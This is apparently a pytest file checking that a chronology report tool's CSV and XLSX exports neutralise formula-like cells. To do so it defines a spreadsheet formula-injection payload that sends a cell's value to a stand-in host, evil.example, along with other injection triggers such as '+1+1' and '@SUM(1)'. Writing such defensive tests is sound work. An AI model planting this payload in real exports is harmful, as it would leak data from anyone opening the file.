"""Chronology exports: the columns, and formula-like cells neutralised."""

from __future__ import annotations

import zipfile

import polars as pl

from chronolink.reports import CHRONOLOGY_COLUMNS, chronology_frame, write_chronology_csv, write_chronology_xlsx
from tests.reports.builders import child_data, household_data

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _data():
    d = child_data()
    ev = d.events.with_columns(
        summary=pl.when(pl.col("event_id") == "e01").then(pl.lit(FORMULA)).otherwise(pl.col("summary")),
        outcome=pl.when(pl.col("event_id") == "e02").then(pl.lit("+1+1")).otherwise(pl.col("outcome")),
        people=pl.when(pl.col("event_id") == "e03").then(pl.lit("@SUM(1)")).otherwise(pl.col("people")),
        label=pl.when(pl.col("event_id") == "e04").then(pl.lit("-2+3")).otherwise(pl.col("label")),
    )
    return d.model_copy(update={"events": ev})


def test_frame_columns():
    f = chronology_frame(child_data())
    assert tuple(f.columns) == CHRONOLOGY_COLUMNS
    first = f.row(0, named=True)
    assert first["Agency"] == "Police" and first["Source record"] == "police_occurrences.csv:12"
    assert first["Time"] == "21:40" and first["Event"] == "DOMESTIC"
    assert f.row(4, named=True)["Source record"] == "csc_episodes.xlsx:40; csc_episodes.xlsx:41"
    assert f["Date"].to_list()[-1] is None  # undated last
    assert chronology_frame(household_data()).height == 8


def test_csv_neutralised(tmp_path):
    path = write_chronology_csv(_data(), tmp_path / "c.csv")
    back = pl.read_csv(path, infer_schema=False)
    assert back["Details"][0] == "'" + FORMULA
    assert back["Outcome or action"][1] == "'+1+1"
    assert back["People involved"][2] == "'@SUM(1)"
    assert back["Event"][3] == "'-2+3"


def test_xlsx_has_no_formulas(tmp_path):
    path = write_chronology_xlsx(_data(), tmp_path / "c.xlsx")
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
    back = pl.read_excel(path, sheet_name="Chronology", infer_schema_length=0)
    assert back["Details"][0] == "'" + FORMULA
